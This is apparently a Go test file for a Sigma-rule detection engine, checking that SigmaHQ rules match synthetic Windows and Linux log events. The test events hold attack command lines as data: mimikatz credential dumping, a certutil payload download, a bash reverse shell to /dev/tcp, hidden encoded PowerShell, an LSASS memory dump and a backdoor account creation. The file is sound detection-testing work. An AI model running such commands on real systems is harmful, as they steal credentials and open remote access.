package detect

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/bradleyjkemp/sigma-go"
	"github.com/vigilhq/vigil/internal/event"
)

// sharedSet is the whole shared SigmaHQ rule set, compiled once for the
// tests that need it.
var sharedSet = sync.OnceValues(func() (*SigmaSet, error) {
	dir, err := sharedRulesPath()
	if err != nil {
		return nil, err
	}
	rules, _, err := LoadSigmaDir(dir)
	if err != nil {
		return nil, err
	}
	return NewSigmaSet(rules), nil
})

// loadShared compiles rules of the shared set by path relative to its root.
func loadShared(t *testing.T, paths ...string) ([]*SigmaRule, bool) {
	t.Helper()
	dir, ok := sharedSigmaRules(t)
	if !ok {
		return nil, false
	}
	var rules []*SigmaRule
	for _, p := range paths {
		src, err := os.ReadFile(filepath.Join(dir, p))
		if err != nil {
			t.Fatal(err)
		}
		r, err := CompileSigma(src)
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		rules = append(rules, r)
	}
	return rules, true
}

// TestSharedRulesEndToEnd runs real SigmaHQ rules on events in the shape
// the normaliser produces, through a SigmaSet (so logsource routing counts).
func TestSharedRulesEndToEnd(t *testing.T) {
	t.Parallel()
	const (
		mimikatz = "windows/process_creation/proc_creation_win_hktl_mimikatz_command_line.yml"
		certutil = "windows/process_creation/proc_creation_win_certutil_download.yml"
		whoami   = "windows/process_creation/proc_creation_win_whoami_execution_from_high_priv_process.yml"
		encoded  = "windows/process_creation/proc_creation_win_powershell_base64_encoded_cmd.yml"
		revShell = "linux/builtin/lnx_shell_susp_rev_shells.yml"
		sshd     = "linux/builtin/sshd/lnx_sshd_susp_ssh.yml"
	)
	paths := []string{mimikatz, certutil, whoami, encoded, revShell, sshd}
	rules, ok := loadShared(t, paths...)
	if !ok {
		return
	}
	byPath := map[string]*SigmaRule{}
	for i, p := range paths {
		byPath[p] = rules[i]
	}
	set := NewSigmaSet(rules)

	const (
		systemUser = `NT AUTHORITY\SYSTEM`
		aliceUser  = `CORP\alice`
		cmd        = `C:\Windows\System32\cmd.exe`
		explorer   = `C:\Windows\explorer.exe`
		powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	)
	tests := []struct {
		name string
		ev   event.Event
		want []string
	}{
		{"mimikatz (Sysmon)", sysmonProcess(`C:\Users\alice\Downloads\m.exe`, `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, cmd, aliceUser), []string{mimikatz}},
		{"mimikatz (Security 4688)", securityProcess(`C:\Users\alice\Downloads\m.exe`, `m.exe "lsadump::sam" exit`, cmd, aliceUser), []string{mimikatz}},
		{"notepad", sysmonProcess(`C:\Windows\System32\notepad.exe`, `notepad.exe C:\Users\alice\notes.txt`, explorer, aliceUser), nil},
		{"certutil download (Sysmon)", sysmonProcess(`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe`, cmd, aliceUser), []string{certutil}},
		{"certutil download (Security 4688)", securityProcess(`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe`, cmd, aliceUser), []string{certutil}},
		{"certutil hash", sysmonProcess(`C:\Windows\System32\certutil.exe`, `certutil.exe -hashfile C:\a.iso SHA256`, cmd, aliceUser), nil},
		{"whoami as SYSTEM", sysmonProcess(`C:\Windows\System32\whoami.exe`, `whoami /all`, cmd, systemUser), []string{whoami}},
		{"whoami as a user", sysmonProcess(`C:\Windows\System32\whoami.exe`, `whoami /all`, cmd, aliceUser), nil},
		{"encoded PowerShell", sysmonProcess(powershell, `powershell.exe -NoP -W Hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==`, explorer, aliceUser), []string{encoded}},
		{"encoded PowerShell, remotesigned filter", sysmonProcess(powershell, `powershell.exe -ExecutionPolicy remotesigned -enc JABjAGwAaQBlAG4AdAA=`, explorer, aliceUser), nil},
		{"reverse shell line", syslogEvent("bash", "alice ran: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", nil), []string{revShell}},
		{"sshd protocol attack", syslogEvent("sshd", "Corrupted MAC on input. [preauth]", nil), []string{sshd}},
		{"sshd failed login", sshFailure("root", "203.0.113.7", testTime), nil},
		{"reverse shell text on Windows is not a Linux event", sysmonProcess(cmd, `cmd /c echo bash -i >& /dev/tcp/203.0.113.9/4444`, explorer, aliceUser), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var got []string
			for _, m := range set.Match(context.Background(), tt.ev) {
				for p, r := range byPath {
					if r == m.Rule {
						got = append(got, p)
					}
				}
			}
			slices.Sort(got)
			want := slices.Clone(tt.want)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("matched %v, want %v (logsource %+v)", got, want, LogsourceOf(tt.ev))
			}
		})
	}
}

// TestPrefilterNeverHidesAMatch holds the set's shortcuts (anchors and
// prefilters) to sigma-go's verdict: for an event built from each rule's
// own values, and for realistic events, SigmaSet.Match returns exactly the
// candidate rules sigma-go matches when run on every candidate.
func TestPrefilterNeverHidesAMatch(t *testing.T) {
	t.Parallel()
	if _, ok := sharedSigmaRules(t); !ok {
		return
	}
	set, err := sharedSet()
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()

	// Every rule alone, on events made of its own values.
	selfMatches := 0
	for _, r := range set.rules {
		for _, ev := range eventsFromRule(r) {
			want := bruteForce(ctx, r, ev)
			if got := r.Matches(ctx, ev); got != want {
				t.Errorf("%s: prefiltered match %v, sigma-go %v on %v", r.Title, got, want, ev.Original)
			}
			if want {
				selfMatches++
			}
		}
	}
	t.Logf("%d rules, %d self-made events matched their rule", len(set.rules), selfMatches)
	if selfMatches < len(set.rules)/2 {
		t.Errorf("only %d self-made events matched: the generator or the engine is off", selfMatches)
	}

	// The whole set, for Windows process creations (the largest bucket).
	var events []event.Event
	for i, r := range set.rules {
		if r.Logsource.Category == "process_creation" && r.Logsource.Product == "windows" && i%8 == 0 {
			for _, ev := range eventsFromRule(r) {
				events = append(events, sysmonEnvelope(ev))
			}
		}
	}
	events = append(events,
		sysmonProcess(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`, `C:\Windows\explorer.exe`, `CORP\alice`),
		sysmonProcess(`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`, `C:\Windows\System32\cmd.exe`, `NT AUTHORITY\SYSTEM`),
		securityProcess(`C:\Windows\System32\net.exe`, `net user eve P@ssw0rd! /add`, `C:\Windows\System32\cmd.exe`, `alice`),
	)
	matched := 0
	for _, ev := range events {
		var want []*SigmaRule
		for _, r := range set.Candidates(ev) {
			if bruteForce(ctx, r, ev) {
				want = append(want, r)
			}
		}
		var got []*SigmaRule
		for _, m := range set.Match(ctx, ev) {
			got = append(got, m.Rule)
		}
		if !slices.Equal(got, want) {
			t.Errorf("Match = %v, sigma-go on every candidate = %v, for %v", titles(got), titles(want), ev.Original)
		}
		matched += len(got)
	}
	t.Logf("%d process creation events, %d matches", len(events), matched)
}

// bruteForce runs sigma-go on the fully flattened event, without anchors
// or prefilter.
func bruteForce(ctx context.Context, r *SigmaRule, ev event.Event) bool {
	flat := map[string]any{}
	for _, f := range r.fields {
		flat[f.key] = f.compute(ev)
	}
	res, err := r.eval.Matches(ctx, flat)
	return err == nil && res.Match
}

func titles(rules []*SigmaRule) []string {
	out := make([]string, len(rules))
	for i, r := range rules {
		out[i] = r.Title
	}
	return out
}

// eventsFromRule builds events from a compiled rule's own values: one that
// satisfies the first matcher map of every selection, one that satisfies
// only the first selection.
func eventsFromRule(r *SigmaRule) []event.Event {
	searches := r.eval.Rule.Detection.Searches
	names := make([]string, 0, len(searches))
	for n := range searches {
		names = append(names, n)
	}
	slices.Sort(names)
	all := map[string]any{}
	first := map[string]any{}
	for i, n := range names {
		if len(searches[n].EventMatchers) == 0 {
			continue
		}
		fillFrom(all, searches[n].EventMatchers[0])
		if i == 0 {
			fillFrom(first, searches[n].EventMatchers[0])
		}
	}
	return []event.Event{
		{Timestamp: testTime, Fields: nestedCopy(all), Original: all},
		{Timestamp: testTime, Fields: nestedCopy(first), Original: first},
	}
}

func fillFrom(original map[string]any, em sigma.EventMatcher) {
	for _, fm := range em {
		name, _ := strings.CutPrefix(fm.Field, "\x00raw\x00")
		switch {
		case name == "\x00keywords" || name == "keywords" && name != fm.Field:
			name = "message"
		case strings.HasPrefix(name, "\x00"):
			continue // exists, fieldref: left to chance
		}
		if len(fm.Values) == 0 || slices.Contains(fm.Modifiers, "re") {
			continue
		}
		v := modifiersString(fm.Values[0])
		var part string
		switch {
		case slices.Contains(fm.Modifiers, "contains"):
			part = "a " + v + " z"
		case slices.Contains(fm.Modifiers, "startswith"):
			part = v + " z"
		case slices.Contains(fm.Modifiers, "endswith"):
			part = `a\` + v
		default:
			part = v
		}
		if prev, ok := original[name].(string); ok && prev != part {
			part = prev + " " + part
		}
		original[name] = part
	}
}

func modifiersString(v any) string {
	if s, ok := v.(string); ok {
		return s
	}
	return valueString(v)
}

func nestedCopy(flat map[string]any) map[string]any {
	out := map[string]any{}
	for k, v := range flat {
		event.Set(out, k, v)
	}
	return out
}

// sysmonEnvelope makes an event a Sysmon process creation.
func sysmonEnvelope(ev event.Event) event.Event {
	ev.Original["EventID"] = 1
	ev.Original["Channel"] = sysmonChannel
	event.Set(ev.Fields, "winlog.channel", sysmonChannel)
	event.Set(ev.Fields, "winlog.event_id", 1)
	return ev
}
